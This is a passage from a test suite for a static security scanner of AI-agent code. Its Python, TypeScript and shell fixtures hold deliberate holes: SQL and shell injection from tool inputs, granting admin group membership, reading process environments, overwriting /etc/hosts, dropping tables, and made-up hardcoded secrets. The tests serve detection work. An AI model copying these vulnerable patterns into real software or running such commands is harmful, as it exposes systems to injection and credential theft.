                cur.execute(f"SELECT * FROM {table}")
        return "ok"
`;
    expect(await check('agent/tables.py', src)).toEqual(['30 sql-injection critical']);
  });

  it("reading a process's I/O counters is a system fact; its environment is not", async () => {
    const src = `import os

def io_counters(pid: int) -> bytes:
    with open(f"/proc/{pid}/io", "rb") as f:
        return f.read()

def env_of(pid: int) -> bytes:
    with open(f"/proc/{pid}/environ", "rb") as f:
        return f.read()
`;
    expect(await check('agent/stats.py', src)).toEqual(['8 file-outside-sandbox medium']);
  });

  it('PostHog project keys and Stripe publishable keys are published by design; a secret key beside them is not', async () => {
    const src = [
      'class Settings:',
      '    posthog_client_key = "phc_Zq8WvR3tYb6NmK1pLx4Hc7Jd2Fs9Ga5Ue0Ti3Oy6Pw"',
      '    stripe_public_key = "pk_live_51Hq2Rt7Yu8Io9Pa0Sd1Fg2Hj3Kl4Zx5Cv6Bn7Mm8Qw9Er"',
      '    stripe_api_key = "pk_test_51Hq2Rt7Yu8Io9Pa0Sd1Fg2Hj3Kl4Zx5Cv6Bn7Mm8Qw9Er"',
      '    admin_password = "Zq8WvR3tYb6NmK1pLx4H"',
    ].join('\n') + '\n';
    expect(await check('app/settings.py', src)).toEqual(['5 hardcoded-secret high']);
  });

  it("analytics projects' client keys (Mixpanel's project token, Amplitude's API key, Segment's write key) are published by design; their secrets are not", async () => {
    // aider's analytics module
    const src = [
      'mixpanel_project_token = "6da9a43058a5d1b9f3353153921fb04d"',
      'AMPLITUDE_API_KEY = "3f9c1a7e5b2d4f6a8c0e1b3d5f7a9c2e"',
      'SEGMENT_WRITE_KEY = "Xq4Lm8Np2Rt6Vz0Bc3Df7Gh1Jk5Ws9Ey"',
      'mixpanel_api_secret = "9be2c7d41f0a6e8b3c5d7f9a1b2c4d6e"',
      'AMPLITUDE_SECRET_KEY = "0a1b2c3d4e5f60718293a4b5c6d7e8f9"',
      'segment_key = "Xq4Lm8Np2Rt6Vz0Bc3Df7Gh1Jk5Ws9Ey"',
    ].join('\n') + '\n';
    expect(await check('app/analytics.py', src)).toEqual(['4 hardcoded-secret high', '5 hardcoded-secret high']);
  });

  it("FastAPI's Depends() parameters are filled by the server; path and query parameters come from the request", async () => {
    const src = `from fastapi import APIRouter, Depends
from fastapi.responses import FileResponse
from .deps import current_workspace

router = APIRouter()

@router.get("/export")
def export(ws = Depends(current_workspace)):
    return FileResponse(path=ws.archive_path)

@router.get("/raw")
def raw(path: str, ws = Depends(current_workspace)):
    return FileResponse(path=path)
`;
    expect(await check('app/routes.py', src)).toEqual(['13 file-untrusted-path high']);
  });
});

describe('agent repositories, third round: numbers in SQL text (TypeScript)', () => {
  it('arithmetic and number-typed parameters splice no text; a string parameter does', async () => {
    const src = `import pg from 'pg';
export class Store {
  private pool = new pg.Pool();
  private table = 'docs';
  private row(index: number, width: number): string {
    const marks = [];
    for (let i = 0; i < width; i += 1) marks.push(\`$\${index * width + i + 1}\`);
    return \`(\${marks.join(', ')})\`;
  }
  async insertOne(values: string[]) {
    await this.pool.query(\`INSERT INTO \${this.table} (a, b) VALUES \${this.row(0, values.length)}\`, values);
  }
  async ensure(dimensions?: number) {
    await this.pool.query(\`CREATE TABLE IF NOT EXISTS \${this.table} (v vector(\${dimensions}))\`);
  }
  async rename(suffix: string) {
    await this.pool.query(\`ALTER TABLE \${this.table} RENAME TO docs_\${suffix}\`);
  }
}
`;
    expect(await check('src/store.ts', src)).toEqual(['17 sql-injection medium']);
  });
});

describe('agent repositories, third round: a data source passed in, read through its settings', () => {
  it('its `options` are configuration (low); a string parameter in a catalog lookup is low too; a tool that fills the settings is critical (TypeScript)', async () => {
    const src = `import { DataSource } from 'typeorm';
import { tool } from 'ai';
import { z } from 'zod';
async function columnsOf(source: DataSource, table: string) {
  const schema = source.options?.schema ?? 'public';
  const all = await source.query(\`SELECT column_name FROM information_schema.columns WHERE table_schema = '\${schema}'\`);
  const one = await source.query(\`SELECT column_name FROM information_schema.columns WHERE table_name = '\${table}'\`);
  return [all, one];
}
export const describeSchema = tool({
  description: 'Describe a schema',
  parameters: z.object({ schema: z.string() }),
  execute: async ({ schema }) => columnsOf(new DataSource({ type: 'postgres', schema }), 'users'),
});
export async function describeTable(name: string) {
  return columnsOf(new DataSource({ type: 'postgres' }), name);
}
`;
    // (line 7: a catalog lookup with a name a caller passes is low)
    expect(await check('src/schema.ts', src)).toEqual(['6 sql-injection critical', '7 sql-injection low']);
    const withoutTool = src.replace(/export const describeSchema[\s\S]*?\n\}\);\n/, '');
    expect(await check('src/schema.ts', withoutTool)).toEqual(['6 sql-injection low', '7 sql-injection low']);
  });
});

describe('agent repositories, third round: links an outside service answers with', () => {
  it('a tool query sent to a search API does not choose the links it returns; the tool choosing the host does (Python)', async () => {
    const src = `import requests
from crewai.tools import BaseTool

class NewsTool(BaseTool):
    name: str = "news"
    def _run(self, **kwargs) -> str:
        query = kwargs.get("query")
        found = requests.get("https://search.example.com/api", params={"q": query}).json()
        pages = []
        for item in found.get("news", []):
            pages.append(requests.get(item["link"], timeout=10).text)
        return "\\n".join(pages) + requests.get(f"https://{query}/robots.txt").text
`;
    expect(await check('agent/news.py', src)).toEqual(['12 egress-untrusted-url critical']);
  });

  it('the same in TypeScript', async () => {
    const src = `import { tool } from 'ai';
import { z } from 'zod';
export const news = tool({
  description: 'News',
  parameters: z.object({ query: z.string() }),
  execute: async ({ query }) => {
    const found = await (await fetch(\`https://search.example.com/api?q=\${encodeURIComponent(query)}\`)).json();
    const first = await fetch(found.items[0].link);
    const direct = await fetch(query);
    return [await first.text(), await direct.text()];
  },
});
`;
    expect(await check('src/news.ts', src)).toEqual(['9 egress-untrusted-url critical']);
  });
});

describe('agent repositories, third round: argv lists handed to a helper or chosen between', () => {
  it('a helper every caller hands a constant program, and one of two constant argv lists, are not dynamic programs; a tool filling the helper is', async () => {
    const src = `import subprocess
from langchain_core.tools import tool

def _spawn(argv: list[str]) -> None:
    subprocess.run(argv, check=True)

def start(extra: str | None):
    argv = ["uv", "run", "serve"]
    if extra is not None:
        argv += ["--inputs", extra]
    _spawn(argv)
    _spawn(["uv", "run", "plot"])

def runner(locked: bool) -> list[str]:
    if locked:
        return ["poetry", "run", "pytest", "-q"]
    return ["uv", "run", "--frozen", "pytest", "-q"]

def test_all(locked: bool):
    subprocess.run(runner(locked), check=True)

def _exec(argv: list[str]) -> None:
    subprocess.run(argv)

@tool
def run_program(program: str) -> str:
    """Run a program."""
    _exec([program, "--version"])
    return "ok"
`;
    // the chosen list is graded as the constant command it is (a runner of a constant program: low)
    expect(await check('agent/launch.py', src)).toEqual(['20 subprocess-shell low', '23 subprocess-dynamic-command critical']);
  });
});

describe('agent repositories, third round: a guard on one entry of a mapping', () => {
  it('`args["k"] in LEVELS` guards that entry while `args` is unchanged; not another entry, not after `args` is rebound', async () => {
    const src = `import json
from .levels import LEVELS, Level

def apply_level(action, args: dict) -> None:
    if args["level"] in LEVELS:
        action.level = getattr(Level, args["level"])
        action.other = getattr(Level, args["other"])
    if args["mode"] not in LEVELS:
        return
    args = json.loads(args["next"])
    action.mode = getattr(Level, args["mode"])

def handle(response):
    for call in response.choices[0].message.tool_calls:
        apply_level(object(), json.loads(call.function.arguments))
`;
    expect(await check('agent/levels.py', src)).toEqual(['7 code-dynamic-import critical', '11 code-dynamic-import critical']);
  });
});

/** Several modules checked as one project (calls between them followed), default configuration: `file line rule severity`. */
async function checkProject(files: Record<string, string>): Promise<string[]> {
  const config = defaultConfig('/p');
  const jobs: FileJob[] = Object.entries(files).map(([rel, text]) => ({ rel, text, language: languageOf(rel)!, relToConfig: rel }));
  const results = await analyzeProject(jobs, activeRules(rules, config), config);
  return results.flatMap((r) => r.findings.map((f) => `${f.file} ${f.line} ${f.ruleId} ${f.severity}`));
}

describe('agent repositories, fourth round: parameters every caller in the project fills with constants or configuration', () => {
  const files = {
    'svc/accounts.py': `import subprocess

def provision(login: str, home: str, scratch: str = "/srv/scratch"):
    subprocess.run(f"useradd -m -d {home} {login}", shell=True)
    subprocess.run(f"mkdir -p {scratch}", shell=True)

def rotate(archive: str):
    subprocess.run(f"tar czf {archive}.tgz logs", shell=True)

def enroll(member: str):
    subprocess.run(f"usermod -aG staff {member}", shell=True)

def grant(member: str):
    subprocess.run(f"usermod -aG admin {member}", shell=True)
`,
    'svc/boot.py': `import argparse
import json
import os
from svc.accounts import enroll, grant, provision

def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--login", default="svc")
    opts = parser.parse_args()
    provision(opts.login, os.environ.get("SVC_HOME", "/home/svc"))
    enroll("deploy")
    with open("roster.json") as fh:
        roster = json.load(fh)
    grant(roster["owner"])
`,
    'svc/tools.py': `from langchain_core.tools import tool
from svc.accounts import enroll

@tool
def add_member(member: str) -> str:
    """Add a member to the staff group."""
    enroll(member)
    return "ok"
`,
  };

  it('grades low what only the command line, the environment and constants reach; a tool caller, data read at run time and a function nobody calls keep their grade', async () => {
    const found = await checkProject(files);
    // provision: argparse and the environment at its only call, the default for the omitted argument
    expect(found).toContain('svc/accounts.py 4 subprocess-shell low');
    expect(found).toContain('svc/accounts.py 5 subprocess-shell low');
    // rotate: no caller in the project, a public API anyone may call with anything
    expect(found).toContain('svc/accounts.py 8 subprocess-shell medium');
    // enroll: one caller passes a constant, another a tool parameter
    expect(found).toContain('svc/accounts.py 11 subprocess-shell critical');
    // grant: a value read from a file at run time is not the program's own choice
    expect(found).toContain('svc/accounts.py 14 subprocess-shell medium');
  });

  it('says why in the message', async () => {
    const config = defaultConfig('/p');
    const jobs: FileJob[] = Object.entries(files).map(([rel, text]) => ({ rel, text, language: languageOf(rel)!, relToConfig: rel }));
    const results = await analyzeProject(jobs, activeRules(rules, config), config);
    const low = results.flatMap((r) => r.findings).find((f) => f.file === 'svc/accounts.py' && f.line === 4)!;
    expect(low.message).toMatch(/every caller in the project passes constants or configuration/);
  });

  it('the same for SQL and an argv program in one file: the local callers decide', async () => {
    const src = `import os
import sqlite3
import subprocess
import sys
from langchain_core.tools import tool

conn = sqlite3.connect("app.db")

def _purge(table, days):
    conn.execute(f"DELETE FROM {table} WHERE age > {days}")

def _launch(python, module):
    subprocess.Popen([python, "-m", module])

def nightly():
    _purge(os.environ.get("EVENTS_TABLE", "events"), 30)
    _launch(sys.executable, "app.worker")

@tool
def purge(table: str) -> str:
    """Purge a table."""
    _purge(table, 7)
    return "done"

@tool
def launch(program: str) -> str:
    """Start a helper program."""
    _launch(program, "app.worker")
    return "started"
`;
    const found = await check('app/jobs.py', src);
    expect(found).toContain('10 sql-injection critical');
    expect(found).toContain('13 subprocess-dynamic-command critical');
    const quiet = src.replace(/@tool[\s\S]*$/, '');
    expect(await check('app/jobs.py', quiet)).toEqual(['10 sql-injection low', '13 subprocess-dynamic-command low']);
  });
});

describe('agent repositories, fourth round: a parameter named for settings', () => {
  it('what is read from a `config` parameter is configuration (low); a plain string parameter spliced where a name goes is low too; a tool that fills the config is critical (TypeScript)', async () => {
    const src = `import pg from 'pg';
import { tool } from 'ai';
import { z } from 'zod';
const pool = new pg.Pool();
export async function buildIndex(config: { relation: string; fanout?: number }) {
  await pool.query(\`CREATE INDEX IF NOT EXISTS emb_idx ON \${config.relation} USING hnsw (embedding) WITH (m = \${config.fanout || 16})\`);
}
export async function rowCount(relation: string) {
  return pool.query(\`SELECT count(*) FROM \${relation}\`);
}
export const indexTool = tool({
  description: 'Index a relation',
  parameters: z.object({ relation: z.string() }),
  execute: async ({ relation }) => buildIndex({ relation }),
});
`;
    expect(await check('src/index-admin.ts', src)).toEqual(['6 sql-injection critical', '9 sql-injection low']);
    const withoutTool = src.replace(/export const indexTool[\s\S]*?\n\}\);\n/, '');
    expect(await check('src/index-admin.ts', withoutTool)).toEqual(['6 sql-injection low', '9 sql-injection low']);
  });
});

describe('agent repositories, fourth round: the same across TypeScript modules', () => {
  const lib = `import { execSync } from 'node:child_process';
export function prepare(dir: string) {
  execSync(\`mkdir -p \${dir} && chmod g+rw \${dir}\`);
}
`;
  const main = `import { prepare } from './lib/setup.js';
prepare(process.env.WORK_DIR ?? '/srv/work');
prepare('/srv/cache');
`;
  const tools = `import { tool } from 'ai';
import { z } from 'zod';
import { prepare } from './lib/setup.js';
export const prep = tool({
  description: 'Prepare a directory',
  parameters: z.object({ dir: z.string() }),
  execute: async ({ dir }) => prepare(dir),
});
`;
  it('the environment and constants at every call are configuration (low); a tool caller is critical', async () => {
    expect(await checkProject({ 'src/lib/setup.ts': lib, 'src/main.ts': main })).toEqual(['src/lib/setup.ts 3 subprocess-shell low']);
    expect(await checkProject({ 'src/lib/setup.ts': lib, 'src/main.ts': main, 'src/tools.ts': tools })).toEqual(['src/lib/setup.ts 3 subprocess-shell critical']);
  });
});

describe('agent repositories, fifth round: placeholders numbered by a helper', () => {
  const store = `import pg from 'pg';
import { tool } from 'ai';
import { z } from 'zod';
const pool = new pg.Pool();
export class Store {
  constructor(private config: { table: string; meta: string }) {}
  private rowMarks(index: number, width: number): string {
    const marks = [];
    for (let i = 0; i < width; i += 1) marks.push(\`$\${index * width + i + 1}\`);
    return \`(\${marks.join(', ')})\`;
  }
  private clauses(filter: Record<string, unknown[]>, offset = 0) {
    const where: string[] = [];
    const params: unknown[] = [];
    let count = offset;
    const bind = (value: unknown) => {
      count += 1;
      params.push(value);
      return \`$\${count}\`;
    };
    const quoted = (value: unknown) => \`'\${String(value)}'\`;
    for (const [key, values] of Object.entries(filter)) {
      where.push(\`\${this.config.meta} ->> \${bind(key)} IN (\${values.map((v) => bind(v)).join(',')})\`);
      where.push(\`\${this.config.meta} ->> \${bind(key)} NOT IN (\${values.map((v) => quoted(v)).join(',')})\`);
    }
    return { where, params };
  }
  async insert(rows: string[][]) {
    const marks = rows.map((_, j) => this.rowMarks(j, 3)).join(', ');
    await pool.query(\`INSERT INTO \${this.config.table} (a, b, c) VALUES \${marks}\`, rows.flat());
  }
  async remove(filter: Record<string, unknown[]>) {
    const { where, params } = this.clauses(filter, 1);
    const clause = where.length ? \`WHERE \${where[0]}\` : '';
    await pool.query(\`DELETE FROM \${this.config.table} \${clause}\`, params);
  }
  async removeQuoted(filter: Record<string, unknown[]>) {
    const { where, params } = this.clauses(filter, 1);
    await pool.query(\`DELETE FROM \${this.config.table} WHERE \${where[1]}\`, params);
  }
  async insertNamed(names: string[]) {
    await pool.query(\`INSERT INTO \${this.config.table} (name) VALUES \${names.map((n) => \`('\${n}')\`).join(', ')}\`);
  }
}
const store = new Store({ table: 'docs', meta: 'metadata' });
export const add = tool({
  description: 'Add rows',
  parameters: z.object({ names: z.array(z.string()) }),
  execute: async ({ names }) => {
    await store.insert(names.map((n) => [n, n, n]));
    await store.insertNamed(names);
  },
});
`;
  it('a map callback or helper that returns `$n` marks makes constant text with numbers; an element spliced as text keeps its grade (TypeScript)', async () => {
    const found = await check('src/store.ts', store);
    // the numbered marks: only the configured table and column names are spliced in (30, 35); the filter
    // values quoted into the text by a helper (39) and names spliced by a map callback (42) keep their grade
    expect(found).toEqual(['30 sql-injection low', '35 sql-injection low', '39 sql-injection medium', '42 sql-injection critical']);
  });

  it('the same in Python: `$n` from range() and enumerate() counters through a helper and a comprehension; a name in the text keeps its grade', async () => {
    const src = `import sqlite3
from langchain_core.tools import tool

conn = sqlite3.connect("docs.db")

class Store:
    def __init__(self, table: str):
        self.table = table

    def _marks(self, count):
        return "(" + ", ".join(f"\${i + 1}" for i in range(count)) + ")"

    def _row_marks(self, index, width):
        return "(" + ", ".join([f"\${index * width + i + 1}" for i in range(width)]) + ")"

    def insert(self, rows):
        conn.execute(f"INSERT INTO {self.table} VALUES {self._marks(len(rows[0]))}", rows[0])
        values = ", ".join(self._row_marks(j, 3) for j, _ in enumerate(rows))
        conn.execute(f"INSERT INTO {self.table} (a, b, c) VALUES {values}", [x for r in rows for x in r])

    def insert_named(self, names):
        conn.execute(f"INSERT INTO {self.table} (name) VALUES {', '.join(f'({n!r})' for n in names)}")
        conn.execute(f"INSERT INTO {self.table} (name) VALUES {', '.join(self._row_marks(n, 1) for n in names)}")

store = Store("docs")

@tool
def add(names: list[str]) -> str:
    """Add rows."""
    store.insert([[n, n, n] for n in names])
    store.insert_named(names)
    return "ok"
`;
    // a name times one is the name, but a name plus a number is an error in Python (`n * 1 + i + 1` with `n` a
    // string raises TypeError): whatever runs, the mark is a number; a name between quotes (`{n!r}`) is still found
    expect(await check('app/store.py', src)).toEqual(['17 sql-injection low', '19 sql-injection low', '22 sql-injection critical', '23 sql-injection low']);
  });
});

describe('agent repositories, fifth round: the fields a record class is made with', () => {
  const src = `import os
import subprocess
from dataclasses import dataclass
from pydantic import BaseModel
from langchain_core.tools import tool


@dataclass
class Launcher:
    python: str
    module: str
    port: int = 8000

    def start(self):
        return subprocess.Popen([self.python, "-m", self.module, "--port", str(self.port)])


class Job(BaseModel):
    program: str

    def run(self):
        return subprocess.Popen([self.program, "--check"])


def serve():
    Launcher(os.environ.get("APP_PYTHON", "python3"), "app.server").start()
    Job(program=os.environ["CHECKER"]).run()
`;
  it('a dataclass or pydantic field annotated without a value is what the object was made with: low when only configuration makes it', async () => {
    expect(await check('app/launch.py', src)).toEqual(['15 subprocess-dynamic-command low', '22 subprocess-dynamic-command low']);
  });

  it('a tool making the object, by keyword or by unpacking its input, keeps the rule severity', async () => {
    const byKeyword = `${src}

@tool
def check(program: str) -> str:
    """Run a checker."""
    Job(program=program).run()
    return "ok"
`;
    expect(await check('app/launch.py', byKeyword)).toEqual(['15 subprocess-dynamic-command low', '22 subprocess-dynamic-command critical']);
    const unpacked = `${src}

@tool
def check_all(args: dict) -> str:
    """Run checkers."""
    Job(**args).run()
    return "ok"
`;
    expect(await check('app/launch.py', unpacked)).toEqual(['15 subprocess-dynamic-command low', '22 subprocess-dynamic-command critical']);
  });
});

describe('agent repositories, fifth round: emptying its own table in a function named for it', () => {
  it('constant DELETE without WHERE inside `delete_all()` is low; a DROP, in a tool, in a function named otherwise, or at module level it keeps its grade (Python)', async () => {
    const src = `import sqlite3
from langchain_core.tools import tool

class OutputStore:
    def __init__(self, path: str):
        self.path = path

    def delete_all(self):
        with sqlite3.connect(self.path) as conn:
            conn.execute("DELETE FROM task_outputs")

    def summarize(self):
        with sqlite3.connect(self.path) as conn:
            conn.execute("DELETE FROM task_outputs")

    def clear(self):
        sqlite3.connect(self.path).execute("DROP TABLE task_outputs")

@tool
def clear_outputs() -> str:
    """Remove every stored output."""
    sqlite3.connect("out.db").execute("DELETE FROM task_outputs")
    return "cleared"

sqlite3.connect("out.db").execute("DELETE FROM task_outputs")
`;
    const found = (await check('app/outputs.py', src)).filter((f) => f.includes('sql-destructive'));
    // a constant DROP destroys the table, not only its rows: it keeps its grade even in `clear()`
    expect(found).toEqual(['10 sql-destructive low', '14 sql-destructive high', '17 sql-destructive high', '22 sql-destructive high', '25 sql-destructive high']);
  });

  it('the same in TypeScript', async () => {
    const src = `import Database from 'better-sqlite3';
const db = new Database('out.db');
export class OutputStore {
  clearAll() {
    db.exec('DELETE FROM task_outputs');
  }
  report() {
    db.exec('DELETE FROM task_outputs');
  }
}
`;
    const found = (await check('src/outputs.ts', src)).filter((f) => f.includes('sql-destructive'));
    expect(found).toEqual(['5 sql-destructive low', '8 sql-destructive high']);
  });
});

describe('agent code not used for tuning, sixth round: settings, published emulator keys, kinds of test folders', () => {
  it('a `name=value` setting bound to a secret-sounding name is a credential only when its value is one (TypeScript)', async () => {
    const src = `export function cleanup(pidPath?: string): string[] {
  const tokenServerCleanup = pidPath ? ['kill', pidPath].join('; ') : 'helper_status=0';
  const authSetting = 'auth=Qw8rT5yU2iO9pA3sD6fG1hJ4';
  return [tokenServerCleanup, authSetting];
}
`;
    expect(await check('src/mounts.ts', src)).toEqual(['3 hardcoded-secret high']);
  });

  it('the same in Python', async () => {
    const src = `token_cleanup = "helper_status=0"
password_option = "password=Qw8rT5yU2iO9pA3sD6fG1hJ4"
admin_password = "abc=Xq7!rT2#wZ9pL"
`;
    // whatever the word before `=`, a value that is a credential is reported
    expect(await check('agent/mounts.py', src)).toEqual(['2 hardcoded-secret high', '3 hardcoded-secret high']);
  });

  it("the storage emulator's published account key is not a credential; another key of its shape is (TypeScript and Python)", async () => {
    const ts = `const azureAccountKey =
  'Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==';
const prodAccountKey =
  'Kq3vZ8pW2nR5tY7uB1mC4xD6fG9hJ0kL2sA5dQ8wE1rT4yU7iO0pL3kJ6hG9fD2sA5zX8cV1bN4mQ7wE0rT3y==';
`;
    // reported on the line of the value
    expect(await check('src/storage.ts', ts)).toEqual(['4 hardcoded-secret high']);
    const py = `AZURE_ACCOUNT_KEY = "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=="
PROD_ACCOUNT_KEY = "Kq3vZ8pW2nR5tY7uB1mC4xD6fG9hJ0kL2sA5dQ8wE1rT4yU7iO0pL3kJ6hG9fD2sA5zX8cV1bN4mQ7wE0rT3y=="
`;
    expect(await check('agent/storage.py', py)).toEqual(['2 hardcoded-secret high']);
  });

  it('a folder named for a kind of tests (`integration-tests`, `unit_tests`) holds tests; a production folder does not', async () => {
    const config = defaultConfig('/p');
    const text = "const password = 's3cr3tP4ssw0rd!xY';\n";
    const judged = async (rel: string) => {
      const r = await analyzeFile({ rel, text, language: languageOf(rel)! }, activeRules(rules, config), config);
      return r.findings.map((f) => [f.severity, f.context, f.gating]);
    };
    expect(await judged('integration-tests/node/storage.mjs')).toEqual([['low', 'test', false]]);
    expect(await judged('packages/cli/unit_tests/helpers.ts')).toEqual([['low', 'test', false]]);
    expect(await judged('packages/contests/storage.ts')).toEqual([['high', 'production', true]]);
  });
});

describe('agent code not used for tuning, sixth round: a program named by the environment', () => {
  it('an environment variable with a constant default names the program: low; a tool parameter still names it at the rule grade or above (Python)', async () => {
    const src = `import os, subprocess
from langchain_core.tools import tool

def run_bridge(script: str):
    python = os.environ.get("AGENT_PYTHON", "python3")
    return subprocess.run([python, "-c", script])

@tool
def launch(program: str) -> str:
    """Start a program."""
    return subprocess.run([program, "--version"]).stdout
`;
    const found = (await check('agent/bridge.py', src)).filter((f) => f.includes('subprocess-dynamic-command'));
    expect(found).toEqual(['6 subprocess-dynamic-command low', '11 subprocess-dynamic-command critical']);
  });

  it('the same in TypeScript', async () => {
    const src = `import { spawn } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
export function runBridge(script: string) {
  const python = process.env.AGENT_PYTHON ?? 'python3';
  return spawn(python, ['-c', script]);
}
export const launch = tool({
  description: 'Start a program',
  parameters: z.object({ program: z.string() }),
  execute: async ({ program }) => spawn(program, ['--version']),
});
`;
    const found = (await check('src/bridge.ts', src)).filter((f) => f.includes('subprocess-dynamic-command'));
    expect(found).toEqual(['6 subprocess-dynamic-command low', '11 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, sixth round: one of several argv lists unpacked into a helper', () => {
  it('`run(*cmd)` with `cmd` one of two constant argv lists fills the program with a constant at every call: low; a tool passing the program keeps the grade (Python)', async () => {
    const helper = `import asyncio

async def run_process(cmd: str, *args: str, verbose: bool = False):
    proc = await asyncio.create_subprocess_exec(cmd, *args)
    return await proc.wait()
`;
    const cli = `from devtool.proc import run_process

async def up(compose_v2: bool, files: list[str]):
    if compose_v2:
        compose_cmd = ["docker", "compose"]
    else:
        compose_cmd = ["docker-compose"]
    await run_process(*compose_cmd, "up", *files)

async def pull(tag: str):
    await run_process("docker", "pull", tag)
`;
    const tools = `from langchain_core.tools import tool
from devtool.proc import run_process

@tool
async def start(program: str) -> str:
    """Start a program."""
    return await run_process(program, "--version")
`;
    expect(await checkProject({ 'devtool/proc.py': helper, 'devtool/cli.py': cli })).toEqual(['devtool/proc.py 4 subprocess-dynamic-command low']);
    expect(await checkProject({ 'devtool/proc.py': helper, 'devtool/cli.py': cli, 'devtool/tools.py': tools })).toEqual(['devtool/proc.py 4 subprocess-dynamic-command critical']);
  });

  it('the same in TypeScript: `run(...cmd)`', async () => {
    const helper = `import { spawn } from 'node:child_process';
export function runProcess(cmd: string, ...args: string[]) {
  return spawn(cmd, args);
}
`;
    const cli = `import { runProcess } from './proc.js';
export function up(v2: boolean, files: string[]) {
  const composeCmd = v2 ? ['docker', 'compose'] : ['docker-compose'];
  return runProcess(...composeCmd, 'up', ...files);
}
export function pull(tag: string) {
  return runProcess('docker', 'pull', tag);
}
`;
    const tools = `import { tool } from 'ai';
import { z } from 'zod';
import { runProcess } from './proc.js';
export const start = tool({
  description: 'Start a program',
  parameters: z.object({ program: z.string() }),
  execute: async ({ program }) => runProcess(program, '--version'),
});
`;
    expect(await checkProject({ 'src/proc.ts': helper, 'src/cli.ts': cli })).toEqual(['src/proc.ts 3 subprocess-dynamic-command low']);
    expect(await checkProject({ 'src/proc.ts': helper, 'src/cli.ts': cli, 'src/tools.ts': tools })).toEqual(['src/proc.ts 3 subprocess-dynamic-command critical']);
  });
});

describe('agent code not used for tuning, seventh round: the project\'s own identifier quoting', () => {
  it('a method named for quoting identifiers that the project defines quotes, as a library\'s does; the bare name is still reported (low: a name a caller passes) (Python)', async () => {
    const src = `import sqlite3


class TableTool:
    def __init__(self, path: str):
        self._connection = sqlite3.connect(path)

    def _quote_identifier(self, identifier: str) -> str:
        escaped = identifier.replace('"', '""')
        return f'"{escaped}"'

    def execute_query(self, query: str):
        cursor = self._connection.cursor()
        cursor.execute(query)
        return cursor.fetchall()

    def count_rows(self, table_name: str):
        quoted = self._quote_identifier(table_name)
        return self.execute_query(f"SELECT COUNT(*) FROM {quoted}")

    def count_raw(self, table_name: str):
        return self.execute_query(f"SELECT COUNT(*) FROM {table_name}")
`;
    expect(await check('agent/tables.py', src)).toEqual(['22 sql-injection low']);
  });

  it('the same in TypeScript: `this.quoteIdentifier(table)`', async () => {
    const src = `import pg from 'pg';
export class TableTool {
  constructor(private pool: pg.Pool) {}
  quoteIdentifier(name: string): string {
    return '"' + name.replace(/"/g, '""') + '"';
  }
  async countRows(table: string) {
    return this.pool.query(\`SELECT COUNT(*) FROM \${this.quoteIdentifier(table)}\`);
  }
  async countRaw(table: string) {
    return this.pool.query(\`SELECT COUNT(*) FROM \${table}\`);
  }
}
`;
    expect(await check('src/tables.ts', src)).toEqual(['11 sql-injection low']);
  });
});

describe('agent code not used for tuning, seventh round: the shared temporary directory and CI jobs\' scripts', () => {
  it('with no sandbox configured, a fixed path under /tmp is scratch space: low; other paths outside the project keep their grade', async () => {
    const src = `import shutil
from pathlib import Path

TEMP_DIR = Path("/tmp/earth_science")
TEMP_DIR.mkdir(parents=True, exist_ok=True)

def reset():
    shutil.rmtree("/var/tmp/agent-cache")
    open("/etc/hosts", "w").write("x")
`;
    expect(await check('agent/scratch.py', src)).toEqual(['5 file-outside-sandbox low', '8 file-outside-sandbox low', '9 file-outside-sandbox high']);
    const config = resolveConfigObject({ sandbox: { roots: ['./workspace'] } }, '/p', '/p/agentos.config.yaml');
    expect(await check('agent/scratch.py', src, config)).toEqual(['5 file-outside-sandbox high', '8 file-outside-sandbox high', '9 file-outside-sandbox high']);
  });

  it('a CI job\'s script may use sudo and write outside the checkout (low); the same script elsewhere keeps the grade', async () => {
    const sh = `#!/usr/bin/env bash
set -euo pipefail
bin="/opt/hostedtoolcache/tools/x64/bin"
sudo mkdir -p "$bin"
mkdir -p /tmp/job/cache
sudo mkdir -p /etc/tool
`;
    expect(await check('.github/scripts/install-tools.sh', sh)).toEqual(['4 shell-sudo low', '4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 shell-sudo low', '6 file-outside-sandbox low']);
    // elsewhere: a fixed directory of the program's own under /opt is low with no sandbox configured, and so is sudo of
    // a command written out in full and (since round 54) a shell script making a fixed system folder (later rounds'
    // rules); an account's keys keep their grade
    expect(await check('deploy/install-tools.sh', sh)).toEqual(['4 shell-sudo low', '4 file-outside-sandbox low', '5 file-outside-sandbox low', '6 shell-sudo low', '6 file-outside-sandbox low']);
    expect(await check('deploy/install-tools.sh', sh.replace('sudo mkdir -p /etc/tool', 'sudo mkdir -p ~/.ssh/tool'))).toContain('6 file-outside-sandbox high');
    expect(await check('deploy/install-tools.sh', sh.replace('sudo mkdir -p /etc/tool', 'sudo mkdir -p "$1"'))).toContain('6 shell-sudo medium');
  });
});

describe('agent code not used for tuning, seventh round: addresses written without a scheme', () => {
  it('a host name with a path is where to get a key, not a key; a password with a dot still is (Python and TypeScript)', async () => {
    const py = `KEY_URLS = {
    'MOONSHOT_API_KEY': "platform.moonshot.ai/console",
    'SAMBA_API_KEY': "cloud.sambanova.ai/apis",
}
DB_PASS = "camel230509"
ADMIN_PASSWORD = "kd93jf02x.qplmzt"
`;
    expect(await check('agent/keys.py', py)).toEqual(['5 hardcoded-secret high', '6 hardcoded-secret high']);
    const ts = `export const keyPages = { apiKey: 'console.example.ai/keys/new' };
export const dbPassword = 'camel230509';
`;
    expect(await check('src/keys.ts', ts)).toEqual(['2 hardcoded-secret high']);
  });
});

describe('agent code not used for tuning, seventh round: programs in a directory, compiled code run elsewhere, cleaned file names', () => {
  it('`os.path.join(venv, "bin", "pip")` is pip in that directory, as `Path(venv) / "bin" / "pip"` is; a program from a parameter is still reported', async () => {
    const src = `import os
import subprocess
import tempfile


class Verifier:
    def __init__(self):
        self.bin_dir = "Scripts" if os.name == "nt" else "bin"

    def setup(self, packages: list):
        self.venv_path = tempfile.mkdtemp()
        venv_pip = os.path.join(self.venv_path, self.bin_dir, "pip")
        subprocess.run([venv_pip, "install", *packages], check=True)
        home = os.path.expanduser("~")
